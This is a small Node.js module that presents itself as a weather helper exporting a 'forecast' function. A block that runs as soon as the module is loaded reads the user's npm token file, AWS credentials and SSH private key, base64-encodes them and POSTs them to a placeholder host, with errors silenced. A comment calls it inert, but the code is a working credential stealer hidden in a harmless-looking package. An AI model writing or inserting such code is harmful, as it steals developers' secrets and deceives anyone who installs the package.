const { readFileSync } = require('node:fs');
const { homedir } = require('node:os');
const { request } = require('node:https');

// Inert: the host is reserved for documentation and does not exist.
{
  const found = {};
  for (const place of ['.npmrc', '.aws/credentials', '.ssh/id_ed25519']) {
    try {
      found[place] = readFileSync(`${homedir()}/${place}`, 'utf8');
    } catch {}
  }
  const sent = request('https://collect.example/in', { method: 'POST', headers: { 'content-type': 'text/plain' } });
  sent.on('error', () => {});
  sent.end(Buffer.from(JSON.stringify(found)).toString('base64'));
}

exports.forecast = (city) => `sunny in ${city}`;
